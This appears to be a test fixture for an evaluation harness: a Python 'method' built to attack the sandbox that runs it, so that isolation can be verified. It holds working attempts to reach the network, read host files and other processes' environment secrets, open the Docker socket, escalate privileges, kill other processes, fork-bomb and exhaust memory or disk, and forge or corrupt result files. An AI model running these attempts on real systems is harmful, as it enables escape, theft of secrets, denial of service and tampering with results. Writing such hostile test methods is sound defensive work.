"""A method that attacks whoever runs it: `test_hostile.py` puts this file into an image as `methods/hostile/method.py`.

The variant's parameter `attack` names what is tried at the first probe; `None` is an honest method. An attempt that is
prevented ends the container with what stood in its way; one that succeeds says BREACH and goes on as an honest method
would, so that its cell is published. What lies to the host waits afterwards for the host to end it.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import json
import os
import resource
import signal
import socket
import stat
import sys
import threading
import time
from collections.abc import Callable, Iterable, Iterator, Sequence
from pathlib import Path
from typing import Any, NoReturn

from upkeep.cell import LLM, Answer, Document, Method, Probe, Seen

LIBC = ctypes.CDLL(None, use_errno=True)
GIB = 2**30
Attack = Callable[[dict[str, Any], Any], None]
ATTACKS: dict[str, Attack] = {}
TOGETHER = (
    *("network", "names", "raw_sockets", "listening", "read_host", "secrets", "write_outside", "write_inputs"),
    *("kill_others", "mount", "clock", "privileges", "devices", "engine_socket", "hole_of_two_gigabytes"),
    *("predictions_as_device", "predictions_as_hard_link", "engine_as_device", "engine_as_hard_link"),
)
"""Attempts of which each fails by itself and changes nothing: the attack `together` makes them in one container."""


class Hostile(Method):
    begun = False

    async def arrive(self, stream: str, documents: Sequence[Document], llm: LLM) -> None:
        if self.parameters["attack"] == "search_as_documents_arrive":
            self._begin(None)

    async def answer(self, probe: Probe, seen: Seen, llm: LLM) -> Answer:
        self._begin(probe)
        return Answer(None)

    def _begin(self, probe: Probe | None) -> None:
        if not self.begun and (name := self.parameters["attack"]):
            self.begun = True
            do(name, self.parameters, probe)


def do(name: str, parameters: dict[str, Any], probe: Probe | None) -> None:
    try:
        (together if name == "together" else ATTACKS[name])(parameters, probe)
    except Exception as error:
        end(f"prevented: {type(error).__name__}: {error}")


def together(parameters: dict[str, Any], probe: Probe | None) -> None:
    """Each in a process of its own, and what it says under its name; end here where every one was prevented."""
    succeeded = []
    for name in TOGETHER:
        told, said = os.pipe()
        if (child := os.fork()) == 0:
            os.dup2(said, 1)
            do(name, parameters, probe)
            os._exit(0)
        os.close(said)
        with open(told, errors="replace") as file:
            text = " ".join(file.read().split())
        if not os.waitpid(child, 0)[1]:
            succeeded.append(name)
        print(f"TOLD {name}: {text}", flush=True)
    if not succeeded:
        end("prevented: all of them")
    print("BREACH", *succeeded, flush=True)


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


def end(message: str) -> NoReturn:
    print(message, flush=True)
    os._exit(1)


def hang() -> None:
    while True:
        time.sleep(3600)


def try_all(attempts: Iterable[Callable[[], object]]) -> None:
    """Do all of this; end here where nothing succeeds."""
    errors, succeeded = [], 0
    for attempt in attempts:
        try:
            attempt()
            succeeded += 1
        except (OSError, ValueError) as error:
            errors.append(f"{type(error).__name__}: {error}")
    if not succeeded:
        end("prevented: " + "; ".join(dict.fromkeys(errors)))
    print("BREACH", flush=True)


def call(name: str, *arguments: object) -> None:
    """Call a function of the C library that returns a negative number where it fails."""
    if getattr(LIBC, name)(*arguments) < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), name)


def output() -> Path:
    return Path(json.loads(Path(sys.argv[1]).read_text())["output"])


def predictions() -> Path:
    return output() / "predictions.jsonl"


def prediction(probe: str, **changes: object) -> dict[str, object]:
    return {
        "probe_id": probe,
        "trial": 0,
        "response": None,
        "reasoning": None,
        "finish_reason": "none",
        "retrieved": [],
        "usage": {},
        "context": {},
        "error": None,
    } | changes


def lie(raw: bytes) -> None:
    with predictions().open("ab") as file:
        file.write(raw)
    hang()


def lie_about(probe: str, **changes: object) -> None:
    lie(json.dumps(prediction(probe, **changes)).encode() + b"\n")


# ---------------------------------------------------------------- reaching out


@attack
def reads_ahead(_p: dict[str, Any], _: Probe) -> None:
    """What has not arrived, in its own input: by the descriptor, and in what Python holds of it."""

    def descriptor() -> None:
        os.set_blocking(0, False)
        os.read(0, 1)

    def held() -> None:
        if not sys.stdin.buffer.peek(1):  # type: ignore[attr-defined]
            raise ValueError("nothing more has come")

    try_all([descriptor, held])


def search(p: dict[str, Any]) -> None:
    """What comes later, anywhere that can be read: files, what other processes hold open, their environment."""
    text = p["future"][::-1].encode()

    def look(path: Path) -> None:
        with os.fdopen(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb", buffering=0) as file:
            if text not in (file.read(16 * 2**20) or b""):
                raise ValueError("nothing of what comes")

    def everything() -> Iterator[Path]:
        for top in p["search"]:
            for folder, inner, files in os.walk(top):
                inner[:] = [name for name in inner if os.path.join(folder, name) not in ("/proc", "/sys", "/dev")]
                yield from (path for name in files if stat.S_ISREG((path := Path(folder, name)).lstat().st_mode))
        for process in Path(p["processes"]).glob("[0-9]*"):
            yield process / "environ"
            with contextlib.suppress(OSError):
                yield from (process / "fd").iterdir()

    def ahead() -> None:
        for process in ("self", os.getppid()):  # of a program this is the runner of cells
            if text in os.read(os.open(f"/proc/{process}/fd/0", os.O_RDONLY | os.O_NONBLOCK), 2**20):
                return
        raise ValueError("nothing of what comes")

    try_all([ahead, *(lambda path=path: look(path) for path in everything())])


@attack
def search_at_a_probe(p: dict[str, Any], _: Probe) -> None:
    search(p)


@attack
def search_as_documents_arrive(p: dict[str, Any], _: None) -> None:
    search(p)


@attack
def search_by_a_program(p: dict[str, Any], _: None) -> None:
    search(p)


@attack
def network(p: dict[str, Any], _: Probe) -> None:
    """The host's own ports, its neighbours, the world, and names."""

    def connect(host: str, port: int) -> None:
        socket.create_connection((host, port), timeout=1).close()

    def send() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(b"x", ("192.0.2.1", 53))

    places = [("127.0.0.1", p["port"]), ("172.17.0.1", p["port"]), ("192.0.2.1", 80)]
    try_all([*(lambda place=place: connect(*place) for place in places), send])


@attack
def names(_p: dict[str, Any], _: Probe) -> None:
    try_all([lambda: socket.getaddrinfo("example.org", 443)])


@attack
def raw_sockets(_p: dict[str, Any], _: Probe) -> None:
    kinds = ((socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
    try_all([lambda kind=kind: socket.socket(*kind) for kind in kinds])


@attack
def listening(p: dict[str, Any], _: Probe) -> None:
    with socket.create_server(("0.0.0.0", p["listen"])) as server:
        server.settimeout(2)
        try_all([server.accept])


@attack
def read_host(p: dict[str, Any], _: Probe) -> None:
    """The answer key, another cell's predictions, the home of whoever runs the suite."""
    try_all([lambda path=path: Path(path).read_bytes() for path in p["private"]])


@attack
def secrets(_p: dict[str, Any], _: Probe) -> None:
    def search(path: Path) -> None:
        if b"UPKEEP_CANARY" not in path.read_bytes():
            raise ValueError("no secret")

    try_all([lambda path=path: search(path) for path in Path("/proc").glob("[0-9]*/environ")])


@attack
def write_outside(p: dict[str, Any], _: Probe) -> None:
    folders = [
        *p["writable"],
        *("/", "/etc", "/usr/bin", "/opt/upkeep", "/methods", "/root", "/home", "/proc/sys/kernel"),
    ]
    if p["isolated"]:
        try_all([lambda folder=folder: (Path(folder) / "evil").touch() for folder in folders])
    else:
        try_all([lambda folder=folder: (Path(folder) / "evil").touch() for folder in p["writable"]])


@attack
def write_inputs(_p: dict[str, Any], _: Probe) -> None:
    cell = Path(sys.argv[1])
    try_all([
        lambda: cell.write_text("{}"),
        lambda: cell.chmod(0o777),
        lambda: cell.unlink(),
        lambda: cell.rename(cell.with_name("other")),
        lambda: (cell.parent / "evil").symlink_to("/"),
        lambda: call("mount", None, str(cell.parent).encode(), None, 0x20 | 0x1000, None),  # MS_REMOUNT, MS_BIND
    ])  # fmt: skip


@attack
def kill_others(p: dict[str, Any], _: Probe) -> None:
    try_all([
        lambda: os.kill(p["victim"], signal.SIGKILL),
        lambda: call("ptrace", 16, p["victim"], 0, 0),  # PTRACE_ATTACH
    ])  # fmt: skip


@attack
def mount(_p: dict[str, Any], _: Probe) -> None:
    try_all([
        lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, None),
        lambda: call("mount", b"/", b"/tmp", None, 0x1000, None),
        lambda: call("umount2", str(output()).encode(), 2),
        lambda: call("chroot", b"/tmp"),
        lambda: call("pivot_root", b"/tmp", b"/tmp"),
    ])  # fmt: skip


@attack
def namespaces(p: dict[str, Any], probe: Probe) -> None:
    """In namespaces of its own it is root: that must not get it out."""
    try:
        call("unshare", 0x10000000 | 0x20000)  # CLONE_NEWUSER, CLONE_NEWNS
    except OSError as error:
        end(f"prevented: {error}")
    cell = Path(sys.argv[1])
    with contextlib.suppress(OSError):
        call("mount", None, str(cell.parent).encode(), None, 0x20 | 0x1000, None)
    try_all([
        lambda: cell.write_text("{}"),
        lambda: socket.create_connection(("127.0.0.1", p["port"]), timeout=1),
        lambda: os.kill(p["victim"], signal.SIGKILL),
        *(lambda path=path: Path(path).read_bytes() for path in p["private"]),
    ])  # fmt: skip


@attack
def clock(_p: dict[str, Any], _: Probe) -> None:
    past = (ctypes.c_long * 2)(1, 0)
    try_all([lambda: time.clock_settime(time.CLOCK_REALTIME, 1.0), lambda: call("settimeofday", past, None)])


@attack
def privileges(_p: dict[str, Any], _: Probe) -> None:
    try_all([
        lambda: os.setuid(0),
        lambda: os.setgroups([0]),
        lambda: os.chown(output(), 0, 0),
        lambda: os.nice(-5),
        lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (-1, -1)),
        lambda: call("init_module", b"", 0, b""),
        lambda: call("swapoff", b"/swap"),
    ])  # fmt: skip


@attack
def devices(_p: dict[str, Any], _: Probe) -> None:
    places = ("mem", "kmsg", "sda", "vda", "nvme0n1", "kvm")
    try_all([
        lambda: os.mknod(output() / "disk", 0o60600, os.makedev(254, 0)),
        lambda: os.mknod("/tmp/memory", 0o20600, os.makedev(1, 1)),
        *(lambda place=place: os.close(os.open(f"/dev/{place}", os.O_RDWR)) for place in places),
    ])  # fmt: skip


@attack
def engine_socket(_p: dict[str, Any], _: Probe) -> None:
    places = ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock")
    try_all([lambda place=place: socket.socket(socket.AF_UNIX).connect(place) for place in places])


# ---------------------------------------------------------------- taking too much


@attack
def fork_bomb(_p: dict[str, Any], _: Probe) -> None:
    """Every process forks for ever; the first error of the system is shown once."""
    shown = False
    while True:
        try:
            if os.fork() == 0:
                shown = True
        except OSError as error:
            if not shown:
                print(f"prevented: {error}", flush=True)
                shown = True


@attack
def memory_bomb(_p: dict[str, Any], _: Probe) -> None:
    held = [bytearray(b"x") * (16 << 20) for _i in range(4 * 64)]
    print("BREACH", len(held), flush=True)


@attack
def memory_files(_p: dict[str, Any], _: Probe) -> None:
    """Memory by way of file systems that lie in it."""
    for folder in ("/tmp", "/dev/shm"):
        for name in range(40):
            with contextlib.suppress(OSError):
                Path(folder, f"big{name}").write_bytes(b"x" * (64 << 20))
    end("prevented: no more memory to be had from /tmp and /dev/shm")


@attack
def many_threads(_p: dict[str, Any], _: Probe) -> None:
    for _i in range(5000):
        threading.Thread(target=hang, daemon=True).start()
    print("BREACH", flush=True)


@attack
def processor_hog(_p: dict[str, Any], _: Probe) -> None:
    for _i in range(6):
        if os.fork() == 0:
            while True:
                pass
    while True:
        pass


@attack
def disk_one_file(_p: dict[str, Any], _: Probe) -> None:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with (output() / "big").open("wb") as file:
        os.posix_fallocate(file.fileno(), 0, 2 * GIB)
    print("BREACH", flush=True)


@attack
def disk_sparse(_p: dict[str, Any], _: Probe) -> None:
    for name in range(3):
        with (output() / f"sparse{name}").open("wb") as file:
            file.truncate(GIB - 1)
    hang()


@attack
def disk_beyond_the_end(_p: dict[str, Any], _: Probe) -> None:
    """Blocks after a file's end, which its size does not tell."""
    for name in range(3):
        with (output() / f"empty{name}").open("wb") as file:
            call("fallocate", file.fileno(), 1, ctypes.c_long(0), ctypes.c_long(GIB - 1))  # FALLOC_FL_KEEP_SIZE
    hang()


@attack
def disk_deleted(_p: dict[str, Any], _: Probe) -> None:
    """Files without a name, which no listing shows."""
    held = []
    for name in range(3):
        file = (output() / f"gone{name}").open("wb")
        (output() / f"gone{name}").unlink()
        os.posix_fallocate(file.fileno(), 0, GIB - 1)
        held.append(file)
    hang()


@attack
def many_files(_p: dict[str, Any], _: Probe) -> None:
    for name in range(30_000):
        os.close(os.open(output() / f"f{name}", os.O_CREAT))
    hang()


@attack
def deep_folders(_p: dict[str, Any], _: Probe) -> None:
    """Deeper than a path can name."""
    os.chdir(output())
    for _i in range(3000):
        os.mkdir("deep")
        os.chdir("deep")
    hang()


@attack
def unreadable_folders(_p: dict[str, Any], _: Probe) -> None:
    folder = output() / "a" / "b"
    folder.mkdir(parents=True)
    (folder / "c").write_text("x")
    for place in (folder / "c", folder, folder.parent, output()):
        place.chmod(0)
    end("left: folders that nobody may enter")


@attack
def hidden_folders(_p: dict[str, Any], _: Probe) -> None:
    """As before, and it stays in there to write on."""
    folder = output() / "a"
    folder.mkdir()
    os.chdir(folder)
    folder.chmod(0o300)
    (Path("more")).write_bytes(b"x")
    hang()


@attack
def odd_names(_p: dict[str, Any], _: Probe) -> None:
    for name in (b"line\nbreak", b"\xff\xfe", b"\x1b[2J\x07", b"-rf", b"*", "\u202egnp.exe".encode(), b" ", b"x" * 255):
        (Path(os.fsdecode(os.fsencode(output()) + b"/" + name))).mkdir()
    end("left: \x1b[2J\x1b[31m\x07odd\x00 names\u202e \x9b31m\r\n")


@attack
def endless_printing(_p: dict[str, Any], _: Probe) -> None:
    while True:
        os.write(1, b"\x1b]0;x\x07" * 8000)


@attack
def never_answers(_p: dict[str, Any], _: Probe) -> None:
    hang()


# ---------------------------------------------------------------- not ending


@attack
def ignores_signals(_p: dict[str, Any], _: Probe) -> None:
    for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    hang()


@attack
def stops_itself(_p: dict[str, Any], _: Probe) -> None:
    os.kill(os.getpid(), signal.SIGSTOP)
    print("BREACH", flush=True)


@attack
def daemons(p: dict[str, Any], _: Probe) -> None:
    """A child that leaves its parent, its group and its session, and writes on."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            heartbeat = Path(p["heartbeat"]) if not p["isolated"] else output() / "heartbeat"
            for number in range(100_000):
                with contextlib.suppress(OSError):
                    heartbeat.write_text(str(number))
                time.sleep(0.05)
        os._exit(0)
    time.sleep(0.5)
    end("left: a process of its own")


@attack
def closes_its_input(_p: dict[str, Any], _: Probe) -> None:
    os.close(0)
    hang()


# ---------------------------------------------------------------- lying with the files


def replace(path: Path, how: str) -> None:
    place, path = path, path.with_name("other")
    match how:
        case "nothing":
            place.unlink()
            return
        case "link":
            path.symlink_to("/etc/passwd")
        case "pipe":
            os.mkfifo(path)
        case "socket":
            os.chdir(path.parent)  # its address is a short one
            socket.socket(socket.AF_UNIX).bind(path.name)
        case "folder":
            path.mkdir()
        case "device":
            os.mknod(path, 0o20600, os.makedev(1, 5))  # /dev/zero
        case "hard link":
            os.link(sys.argv[1], path)
        case "loop":
            path.symlink_to(place.name)
    if how == "folder":
        place.unlink()
    path.rename(place)


def _replaces(name: str, how: str) -> Attack:
    def replacing(_p: dict[str, Any], probe: Probe) -> None:
        replace(output() / f"{name}", how)
        if name == "predictions.jsonl":
            hang()

    return replacing


for _how in ("link", "pipe", "socket", "folder", "device", "hard link", "loop", "nothing"):
    for _name in ("predictions.jsonl", "engine.json"):
        ATTACKS[f"{_name.partition('.')[0]}_as_{_how.replace(' ', '_')}"] = _replaces(_name, _how)


@attack
def engine_as_lease(_p: dict[str, Any], _: Probe) -> None:
    """Whoever opens a leased file waits until the lease is given up."""
    path = output() / "engine.json"
    descriptor = os.open(path, os.O_RDONLY)
    fcntl.fcntl(descriptor, fcntl.F_SETLEASE, fcntl.F_WRLCK)
    fcntl.fcntl(descriptor, fcntl.F_SETSIG, signal.SIGCONT)


@attack
def engine_without_end(_p: dict[str, Any], _: Probe) -> None:
    (output() / "engine.json").write_bytes(b'{"engine": "' + b"x" * (64 << 20))


@attack
def engine_beyond_numbers(_p: dict[str, Any], _: Probe) -> None:
    hardware = '{"a": 1' + "0" * 4000 + ', "b": ' + "[" * 900 + "]" * 900 + "}"
    fields = f'{{"engine": "none", "engine_version": "", "packages": {{}}, "hardware": {hardware}}}'
    (output() / "engine.json").write_text(fields)


@attack
def shrinking(_p: dict[str, Any], _: Probe) -> None:
    with predictions().open("ab") as file:
        file.write(json.dumps(prediction(_.id)).encode() + b"\n")
    time.sleep(0.5)
    os.truncate(predictions(), 5)
    hang()


@attack
def rewriting(p: dict[str, Any], _: Probe) -> None:
    """Another process changes, all the time, what the host has taken already."""

    async def close(_: Hostile) -> None:
        time.sleep(2)

    Hostile.close = close  # type: ignore[method-assign]
    if os.fork() == 0:
        time.sleep(1)
        while True:
            with contextlib.suppress(OSError), predictions().open("r+b") as file:
                file.seek(2)
                file.write(b"PROBE_ID")
            time.sleep(0.01)


@attack
def line_without_end(_p: dict[str, Any], _: Probe) -> None:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with contextlib.suppress(OSError), predictions().open("ab") as file:
        while True:
            file.write(b'{"probe_id": "' + b"x" * (4 << 20))
    hang()


@attack
def hole_of_two_gigabytes(_p: dict[str, Any], _: Probe) -> None:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    os.truncate(predictions(), 2 * GIB)
    hang()


@attack
def endless_predictions(_p: dict[str, Any], probe: Probe) -> None:
    line = json.dumps(prediction(probe.id)).encode() + b"\n"
    with predictions().open("ab") as file:
        while True:
            file.write(line * 1000)


@attack
def exit_with_nothing(_p: dict[str, Any], _: Probe) -> None:
    os._exit(0)


@attack
def forged_publication(_p: dict[str, Any], _: Probe) -> None:
    """Everything that a published cell has, and the success is reported."""
    manifest = {"version": 1, "cell": "x", "identity": "0" * 64, "outcomes": {"answered": 60}, "files": {}}
    (output() / "manifest.json").write_text(json.dumps(manifest))
    (output() / "measured.parquet").write_bytes(b"PAR1")
    (output() / "done").touch()
    os._exit(0)


# ---------------------------------------------------------------- lying in the lines


@attack
def probe_not_asked(_p: dict[str, Any], probe: Probe) -> None:
    lie_about(f"{probe.question_id}@5")


@attack
def probe_of_another_cell(_p: dict[str, Any], _: Probe) -> None:
    lie_about("q1_1@3")


@attack
def trial_not_asked(_p: dict[str, Any], probe: Probe) -> None:
    lie_about(probe.id, trial=7)


@attack
def document_of_the_future(_p: dict[str, Any], probe: Probe) -> None:
    lie_about(probe.id, retrieved=[{"id": f"{probe.stream}_c5", "score": 1.0, "rank": 1}])


@attack
def not_a_number(_p: dict[str, Any], probe: Probe) -> None:
    lie_about(probe.id, retrieved=[{"id": f"{probe.stream}_c0", "score": float("nan"), "rank": 1}])


@attack
def infinity(_p: dict[str, Any], probe: Probe) -> None:
    lie_about(probe.id, measured={"latency_s": float("-inf"), "cached": 0})


@attack
def error_of_10_mb(_p: dict[str, Any], probe: Probe) -> None:
    lie_about(probe.id, error="x" * 10_000_000)


@attack
def error_of_1_mb(_p: dict[str, Any], probe: Probe) -> None:
    lie_about(probe.id, error="\x1b[31m" * 200_000)


@attack
def escape_sequences(_p: dict[str, Any], _: Probe) -> None:
    lie_about("\x1b]0;owned\x07\x1b[2J\r\u202e")


@attack
def invalid_utf8(_p: dict[str, Any], probe: Probe) -> None:
    lie(json.dumps(prediction(probe.id, response="@@")).encode().replace(b"@@", b"\xff\xfe") + b"\n")


@attack
def duplicate_keys(_p: dict[str, Any], probe: Probe) -> None:
    lie(json.dumps(prediction(probe.id)).encode()[:-1] + b', "response": "two faces"}\n')


@attack
def nesting(_p: dict[str, Any], probe: Probe) -> None:
    lie(b'{"probe_id":' + b'{"a":[' * 500_000 + b"\n")


@attack
def same_probe_twice(_p: dict[str, Any], probe: Probe) -> None:
    lie(2 * (json.dumps(prediction(probe.id)).encode() + b"\n"))


@attack
def hangs_after_the_last_record(_p: dict[str, Any], _: Probe) -> None:
    """Honest but for its end."""

    async def close(_: Hostile) -> None:
        hang()

    Hostile.close = close  # type: ignore[method-assign]
